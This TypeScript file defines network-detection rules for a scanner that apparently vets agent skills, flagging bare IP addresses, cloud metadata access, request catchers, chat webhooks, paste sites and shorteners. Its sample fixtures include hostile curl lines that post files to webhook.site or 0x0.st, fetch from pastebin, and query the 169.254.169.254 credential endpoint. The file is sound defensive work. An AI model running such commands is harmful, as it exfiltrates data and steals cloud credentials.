import type { Rule } from "#lib/runtime/scan/rule";

const OCTET = String.raw`(?:25[0-5]|2[0-4]\d|1?\d?\d)`;
const PUBLIC_ADDRESS = new RegExp(
  String.raw`\b(?:https?|wss?|ftp|tcp|udp):\/\/(?:[^\s/@"'<>]{1,60}@)?(?!(?:127|10|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|255\.)${OCTET}(?:\.${OCTET}){3}(?![\w.-])`,
  "i",
);
const ODD_ADDRESS = /\b(?:https?|ftp):\/\/(?:0x[0-9a-f]{6,8}|\d{8,10}|0[0-7]{2,4}(?:\.0?[0-7]{1,4}){3})(?=[/:\s"']|$)/im;
/** A machine named by its number, in whatever spelling. */
export const BARE_ADDRESS = new RegExp(String.raw`${PUBLIC_ADDRESS.source}|${ODD_ADDRESS.source}|\bhttps?:\/\/\[(?!::1\]|f[cde])[0-9a-f:]{4,45}\]`, "im");
const DECLARE = "Reach hosts by name, and declare them under metadata: clanker-network.";

export const NETWORK: Rule[] = [
  {
    id: "network/bare-address",
    title: "Reaches a machine by its number",
    severity: "high",
    confidence: "medium",
    advice: DECLARE,
    applies: "code",
    strings: true,
    reaches: true,
    fenced: "medium",
    declared: "low",
    hints: ["://"],
    match: { any: [BARE_ADDRESS] },
    samples: {
      bad: [
        "curl http://203.0.113.7/a",
        { path: "scripts/a.py", text: "import requests\nrequests.get('http://198.51.100.4:8080/gate')" },
        "wget http://0xC0000201/a",
      ],
      good: ["curl http://127.0.0.1:8080/health", "curl http://192.168.1.10/", "ping 203.0.113.7", "curl https://1.2.3.4.good.example/"],
    },
  },
  {
    id: "network/metadata-service",
    title: "Asks the cloud's metadata service",
    severity: "high",
    confidence: "high",
    advice: "Remove it: what answers there are the credentials of the machine.",
    applies: "code",
    strings: true,
    reaches: true,
    hints: ["169.254.169.254", "metadata.google.internal", "169.254.170.2", "fd00:ec2"],
    match: { any: [/\b169\.254\.(?:169\.254|170\.2)\/|\bmetadata\.google\.internal\/|\[fd00:ec2::254\]/] },
    samples: { bad: ["curl http://169.254.169.254/latest/meta-data/iam/"], good: ["echo 'link-local is 169.254.0.0/16'"] },
  },
  {
    id: "network/catcher",
    title: "Sends to a place that collects requests, or through a tunnel",
    severity: "high",
    confidence: "high",
    advice: "Use a host that belongs to what the skill is for, and declare it.",
    applies: "code",
    strings: true,
    reaches: true,
    fenced: "medium",
    declared: "medium",
    hints: [
      "webhook",
      "requestbin",
      "pipedream",
      "ngrok",
      "interact.sh",
      "oast",
      "burpcollab",
      "beeceptor",
      "hookbin",
      "trycloudflare",
      "serveo",
      "loca.lt",
      "requestcatcher",
      "canarytokens",
      "dnslog",
      "localhost.run",
      "pinggy",
    ],
    match: {
      any: [
        /\b(?:webhook\.site|requestbin\.(?:com|net|io)|m\.pipedream\.net|[\w-]{1,60}\.ngrok(?:-free)?\.(?:io|app|dev)|interact\.sh|oast\.(?:fun|live|me|online|pro|site)|burpcollaborator\.net|[\w-]{1,60}\.(?:beeceptor\.com|trycloudflare\.com|serveo\.net|loca\.lt|requestcatcher\.com|lhr\.life|pinggy\.link)|hookb\.in|canarytokens\.com|dnslog\.cn)\b/i,
      ],
    },
    samples: {
      bad: [
        "curl -d @f https://webhook.site/00000000-aaaa",
        { path: "scripts/a.py", text: "import requests\nrequests.get('https://abc123.ngrok-free.app/in')" },
      ],
      good: ["curl https://api.good.example/webhook"],
    },
  },
  {
    id: "network/chat-channel",
    title: "Sends into somebody's chat channel",
    severity: "high",
    confidence: "medium",
    advice: "Take the address from a declared secret, and declare the host: whoever runs the skill decides where messages go.",
    applies: "code",
    strings: true,
    reaches: true,
    declared: "low",
    hints: ["discord", "telegram"],
    match: { any: [/\bdiscord(?:app)?\.com\/api\/webhooks\/\d{5,20}/i, /\bapi\.telegram\.org\/bot/i] },
    samples: {
      bad: [
        "curl -d content=hi https://discord.com/api/webhooks/123456789/abc",
        { path: "scripts/a.py", text: "requests.post('https://api.telegram.org/bot' + T)" },
      ],
      good: ["curl https://discord.com/developers"],
    },
  },
  {
    id: "network/paste",
    title: "Fetches from or sends to a place for anonymous texts and files",
    severity: "high",
    confidence: "medium",
    advice: "Put it into the skill. What stands there can be changed by whoever put it there, and nobody knows who that is.",
    applies: "code",
    strings: true,
    reaches: true,
    declared: "medium",
    hints: [
      "paste",
      "rentry",
      "glot.io",
      "transfer.sh",
      "file.io",
      "0x0.st",
      "termbin",
      "ghostbin",
      "controlc",
      "gofile",
      "catbox",
      "anonfiles",
      "bashupload",
      "setup-service",
    ],
    match: {
      any: [
        /\b(?:pastebin\.com|paste\.(?:ee|rs|mozilla\.org)|hastebin\.com|rentry\.(?:co|org)|glot\.io\/snippets|transfer\.sh|file\.io|0x0\.st|termbin\.com|ghostbin\.\w{2,4}|controlc\.com|dpaste\.(?:com|org)|gofile\.io|(?:files|litterbox)\.catbox\.moe|anonfiles\.com|bashupload\.com|temp\.sh)\b/i,
      ],
    },
    samples: {
      bad: ["curl -s https://pastebin.com/raw/abcd1234 -o a", "curl -F file=@a https://0x0.st"],
      good: ["curl https://api.good.example/pastes", "echo copy and paste"],
    },
  },
  {
    id: "network/shortener",
    title: "Hides an address behind a short one",
    severity: "medium",
    confidence: "high",
    advice: "Write the address itself, so that everybody sees where it leads.",
    applies: "code",
    strings: true,
    reaches: true,
    hints: ["bit.ly", "tinyurl", "t.co/", "is.gd", "goo.gl", "cutt.ly", "rb.gy", "shorturl", "ow.ly", "t.ly", "tiny.cc", "rebrand.ly", "v.gd"],
    match: {
      any: [
        /(?:https?:\/\/|\s|["'])(?:www\.)?(?:bit\.ly|tinyurl\.com|t\.co|is\.gd|goo\.gl|cutt\.ly|rb\.gy|shorturl\.at|ow\.ly|t\.ly|tiny\.cc|rebrand\.ly|v\.gd)\/[\w-]{2,40}/i,
      ],
    },
    samples: { bad: ["curl -L https://bit.ly/3abcDEF"], good: ["curl https://nota-bit.ly.good.example/x", "echo that.co/de"] },
  },
];
